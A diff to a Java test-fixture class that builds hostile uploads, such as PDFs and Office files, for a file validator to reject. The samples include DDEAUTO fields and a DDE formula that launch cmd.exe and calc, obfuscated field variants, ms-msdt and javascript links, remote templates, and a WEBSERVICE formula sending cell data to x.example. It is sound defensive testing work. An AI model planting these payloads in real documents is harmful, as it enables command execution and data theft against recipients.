@@ -26,6 +26,9 @@ import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.poi.hssf.usermodel.HSSFWorkbook;
 import org.apache.poi.poifs.crypt.EncryptionMode;
 import org.apache.poi.xslf.usermodel.XMLSlideShow;
+import org.apache.poi.xwpf.usermodel.XWPFDocument;
+import org.apache.poi.xwpf.usermodel.XWPFParagraph;
+import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;
 
 /** Files that must be kept out, each with the sentence that it deserves. */
 public final class HostileFiles {
@@ -39,10 +42,14 @@ public final class HostileFiles {
         List<Sample> all = new ArrayList<>();
         all.addAll(pdfs());
         all.addAll(brokenPdfs());
+        all.addAll(waysOutOfPdf());
         all.addAll(office());
+        all.addAll(insideOffice());
+        all.addAll(commandsInOffice());
         all.addAll(brokenOffice());
         all.addAll(pictures());
         all.addAll(disguises());
+        all.addAll(archives());
         all.addAll(names());
         return all;
     }
@@ -150,6 +157,55 @@ public final class HostileFiles {
         pdf(samples, "password, 40 bit", () -> Pdfs.locked(40, false, "mo"), "PDF_ENCRYPTED");
         pdf(samples, "password, 128 bit", () -> Pdfs.locked(128, true, "mo"), "PDF_ENCRYPTED");
         pdf(samples, "password, 256 bit", () -> Pdfs.locked(256, true, "mật khẩu"), "PDF_ENCRYPTED");
+        return samples;
+    }
+
+    private static List<Sample> waysOutOfPdf() {
+        List<Sample> samples = new ArrayList<>();
+        COSDictionary web = Pdfs.dictionary("S", "URI", "URI", new COSString("https://x.example/?doc=1"));
+        both(
+                samples,
+                "link followed when opened",
+                d -> Pdfs.catalog(d).setItem(COSName.OPEN_ACTION, web),
+                "PDF_REACHES_OUT");
+        both(
+                samples,
+                "link followed when a page opens",
+                d -> d.getPage(0).getCOSObject().setItem(COSName.AA, Pdfs.dictionary("O", web)),
+                "PDF_REACHES_OUT");
+        both(
+                samples,
+                "another file opened by a link",
+                d -> Pdfs.annotation(d, "Subtype", "Link", "A", Pdfs.dictionary("S", "GoToR", "F", new COSString("a"))),
+                "PDF_REACHES_OUT");
+        both(
+                samples,
+                "form that sends itself away",
+                d -> Pdfs.annotation(
+                        d,
+                        "Subtype",
+                        "Widget",
+                        "A",
+                        Pdfs.dictionary("S", "SubmitForm", "F", new COSString("https://x"))),
+                "PDF_REACHES_OUT");
+        for (String target :
+                List.of("javascript:alert(1)", "\\\\x.example\\a", "file://x.example/a", "file:///C:/a/b.EXE")) {
+            pdf(
+                    samples,
+                    "link to " + target,
+                    () -> Pdfs.with(d -> Pdfs.annotation(
+                            d, "Subtype", "Link", "A", Pdfs.dictionary("S", "URI", "URI", new COSString(target)))),
+                    "PDF_REACHES_OUT");
+        }
+        pdf(
+                samples,
+                "contents kept in another file",
+                () -> Pdfs.openly(d -> {
+                    COSStream stream = new COSStream();
+                    stream.setItem(COSName.F, new COSString("\\\\x.example\\a"));
+                    d.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
+                }),
+                "PDF_REACHES_OUT");
         return samples;
     }
 
@@ -297,6 +353,155 @@ public final class HostileFiles {
                         "OFFICE_IS_BOMB")));
     }
 
+    private static List<Sample> insideOffice() {
+        return List.of(
+                word(
+                        "OLE object",
+                        () -> changed(
+                                docx(),
+                                add("oleObject", "embeddings/oleObject1.bin"),
+                                parts -> parts.put("word/embeddings/oleObject1.bin", xls())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "OLE object that nothing names",
+                        () -> changed(docx(), parts -> parts.put("word/media/image1.emf", xls())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "workbook to open by a double click",
+                        () -> changed(
+                                docx(),
+                                add("package", "embeddings/so-lieu.xlsx"),
+                                parts -> parts.put("word/embeddings/so-lieu.xlsx", xlsx())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "archive inside",
+                        () -> changed(docx(), parts -> parts.put("word/media/anh.png", zip())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                excel(
+                        "program inside",
+                        () -> changed(xlsx(), parts -> parts.put("xl/media/anh.png", program())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "PDF inside",
+                        () -> changed(docx(), parts -> parts.put("word/embeddings/a.bin", Pdfs.plain())),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "macros in the table of a chart",
+                        () -> changed(
+                                docx(HarmlessFiles::chart),
+                                tableOfChart(() -> changed(xlsx(), put("xl/vbaProject.bin", "x")))),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "chart whose table is an archive",
+                        () -> changed(docx(HarmlessFiles::chart), tableOfChart(HostileFiles::zip)),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                word(
+                        "web page taken in as text",
+                        () -> changed(
+                                docx(),
+                                add("aFChunk", "a.html"),
+                                put("word/a.html", "<html><script>alert(1)</script></html>")),
+                        "OFFICE_HAS_EMBEDDED_FILE"),
+                excel(
+                        "data connection",
+                        () -> changed(xlsx(), put("xl/connections.xml", "<connections/>"), connected("connections")),
+                        "OFFICE_HAS_DATA_CONNECTION"),
+                excel(
+                        "table filled by a query",
+                        () -> changed(xlsx(), put("xl/queryTables/a.xml", "<q/>"), connected("queryTable")),
+                        "OFFICE_HAS_DATA_CONNECTION"),
+                excel(
+                        "Power Query",
+                        () -> changed(
+                                xlsx(), put("customXml/item1.xml", "<DataMashup xmlns='urn:m'>UEsDBA==</DataMashup>")),
+                        "OFFICE_HAS_DATA_CONNECTION"),
+                word(
+                        "object linked to a file of the writer's computer",
+                        () -> changed(docx(), external("oleObject", "file:///C:\\so-lieu.xlsx")),
+                        "OFFICE_HAS_DATA_CONNECTION"));
+    }
+
+    private static List<Sample> commandsInOffice() {
+        List<Sample> samples = new ArrayList<>();
+        for (String field : List.of(
+                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", " dde excel a b", "\"DDEAUTO\" cmd a")) {
+            samples.add(word("field " + field, () -> docx(d -> field(d, field)), "OFFICE_RUNS_COMMANDS"));
+        }
+        samples.add(word(
+                "field cut over runs", () -> docx(d -> field(d, "DD", "EAU", "TO cmd.exe")), "OFFICE_RUNS_COMMANDS"));
+        samples.add(word(
+                "field whose kind another field computes",
+                () -> docx(d -> field(d, "{", " QUOTE 68 68 69 65 85 84 79 ", "}", " c:\\cmd.exe")),
+                "OFFICE_RUNS_COMMANDS"));
+        samples.add(word(
+                "field in one tag",
+                () -> docx(d -> d.createParagraph().getCTP().addNewFldSimple().setInstr(" DDE cmd a ")),
+                "OFFICE_RUNS_COMMANDS"));
+        samples.add(word(
+                "field in a header",
+                () -> changed(
+                        docx(),
+                        put(
+                                "word/header1.xml",
+                                "<w:hdr xmlns:w='w'><w:instrText>DDE&#x41;UTO cmd</w:instrText></w:hdr>")),
+                "OFFICE_RUNS_COMMANDS"));
+        samples.add(excel(
+                "DDE link",
+                () -> changed(
+                        xlsx(),
+                        put(
+                                "xl/externalLinks/externalLink1.xml",
+                                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")),
+                "OFFICE_RUNS_COMMANDS"));
+        samples.add(excel(
+                "DDE formula",
+                () -> changed(
+                        xlsx(),
+                        put("xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>")),
+                "OFFICE_RUNS_COMMANDS"));
+        samples.add(excel(
+                "formula that asks the net",
+                () -> xlsx(w -> w.getSheetAt(0)
+                        .createRow(1)
+                        .createCell(0)
+                        .setCellFormula("_xlfn.WEBSERVICE(\"https://x.example/?a=\"&A1)")),
+                "OFFICE_LOADS_FROM_NETWORK"));
+        for (String target : List.of("javascript:alert(1)", "ms-msdt:/id", "a.exe", "file:///C:\\a\\b.PS1")) {
+            samples.add(word(
+                    "link in a DOCX to " + target,
+                    () -> changed(docx(), external("hyperlink", target)),
+                    "OFFICE_RUNS_COMMANDS"));
+        }
+        samples.add(word(
+                "picture on another computer",
+                () -> changed(docx(), external("image", "file:///\\\\x.example\\a.png")),
+                "OFFICE_LOADS_FROM_NETWORK"));
+        samples.add(word(
+                "template on another computer",
+                () -> changed(docx(), external("attachedTemplate", "\\\\x.example\\a.dotm")),
+                "OFFICE_LOADS_FROM_NETWORK"));
+        return samples;
+    }
+
+    private static List<Sample> archives() {
+        List<Sample> samples = new ArrayList<>();
+        byte[] rar = joined(ascii("Rar!\u001a\u0007\u0001\0"), noise(300));
+        byte[] sevenZip = joined(ascii("7z\u00bc\u00af'\u001c\0\4"), noise(300));
+        pdf(samples, "RAR called PDF", () -> rar, "FILE_IS_ARCHIVE");
+        pdf(samples, "7z called PDF", () -> sevenZip, "FILE_IS_ARCHIVE");
+        pdf(samples, "GZIP called PDF", () -> joined(ascii("\u001f\u008b\b\0"), noise(300)), "FILE_IS_ARCHIVE");
+        pdf(samples, "ZIP called PDF", HostileFiles::zip, "FILE_IS_ARCHIVE");
+        samples.add(Sample.of("ZIP under its name", "ho-so.zip", HostileFiles::zip, "FILE_IS_ARCHIVE"));
+        samples.add(word("RAR called DOCX", () -> rar, "FILE_IS_ARCHIVE"));
+        pdf(samples, "RAR behind a PDF", () -> joined(Pdfs.plain(), rar), "FILE_IS_TWO_FILES");
+        samples.add(
+                Sample.of("7z behind a JPEG", "anh.jpg", () -> joined(Pictures.jpeg(), sevenZip), "FILE_IS_TWO_FILES"));
+        samples.add(word("two DOCX behind each other", () -> joined(docx(), docx(d -> {})), "FILE_IS_TWO_FILES"));
+        samples.add(word("program behind a DOCX", () -> joined(docx(), program()), "FILE_IS_TWO_FILES"));
+        samples.add(word("web page behind a DOCX", () -> joined(docx(), ascii("<html>")), "FILE_IS_TWO_FILES"));
+        return samples;
+    }
+
     private static List<Sample> brokenOffice() {
         return new ArrayList<>(List.of(
                 word("main part missing", () -> changed(docx(), parts -> parts.remove(DOCUMENT)), "OFFICE_DAMAGED"),
@@ -326,10 +531,7 @@ public final class HostileFiles {
                         "OFFICE_DAMAGED"),
                 Sample.of("old XLS", "danh-sach.xls", HostileFiles::xls, "FILE_IS_OLD_OFFICE"),
                 excel("old XLS called XLSX", HostileFiles::xls, "FILE_IS_OLD_OFFICE"),
-                word(
-                        "ZIP called DOCX",
-                        () -> OfficeFiles.zip(Map.of("a.txt", ascii("a")), ZipOutputStream.DEFLATED),
-                        "FILE_TYPE_NOT_ALLOWED"),
+                word("ZIP called DOCX", HostileFiles::zip, "FILE_IS_ARCHIVE"),
                 word("slides called DOCX", HostileFiles::pptx, "FILE_TYPE_NOT_ALLOWED"),
                 excel("DOCX called XLSX", OfficeFiles::docx, "FILE_NAME_MISLEADS"),
                 word("XLSX called DOCX", OfficeFiles::xlsx, "FILE_NAME_MISLEADS"),
@@ -537,6 +739,58 @@ public final class HostileFiles {
             slides.write(out);
             return out.toByteArray();
         }
+    }
+
+    private static byte[] zip() throws Exception {
+        return OfficeFiles.zip(Map.of("a.txt", ascii("a")), ZipOutputStream.DEFLATED);
+    }
+
+    /** The workbook that a chart keeps its numbers in. */
+    private static OfficeFiles.Parts tableOfChart(Callable<byte[]> content) {
+        return parts -> {
+            for (String name : List.copyOf(parts.keySet())) {
+                if (name.endsWith(".xlsx")) {
+                    parts.put(name, content.call());
+                }
+            }
+        };
+    }
+
+    private static OfficeFiles.Parts add(String type, String target) {
+        return relationship("word/_rels/document.xml.rels", type, "Target='" + target + "'");
+    }
+
+    private static OfficeFiles.Parts external(String type, String target) {
+        return relationship("word/_rels/document.xml.rels", type, "TargetMode='External' Target='" + target + "'");
+    }
+
+    private static OfficeFiles.Parts connected(String type) {
+        return relationship("xl/worksheets/_rels/sheet1.xml.rels", type, "Target='../a.xml'");
+    }
+
+    private static OfficeFiles.Parts relationship(String part, String type, String rest) {
+        return put(
+                part,
+                "<Relationships><Relationship Id='r' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+                        + "relationships/" + type + "' " + rest + "/></Relationships>");
+    }
+
+    /** @param runs the code of the field, cut as Word cuts it; braces open and close a field inside */
+    private static void field(XWPFDocument document, String... runs) {
+        XWPFParagraph paragraph = document.createParagraph();
+        paragraph.createRun().getCTR().addNewFldChar().setFldCharType(STFldCharType.BEGIN);
+        for (String run : runs) {
+            if (run.equals("{") || run.equals("}")) {
+                paragraph
+                        .createRun()
+                        .getCTR()
+                        .addNewFldChar()
+                        .setFldCharType(run.equals("{") ? STFldCharType.BEGIN : STFldCharType.END);
+            } else {
+                paragraph.createRun().getCTR().addNewInstrText().setStringValue(run);
+            }
+        }
+        paragraph.createRun().getCTR().addNewFldChar().setFldCharType(STFldCharType.END);
     }
 
     private static byte[] program() {
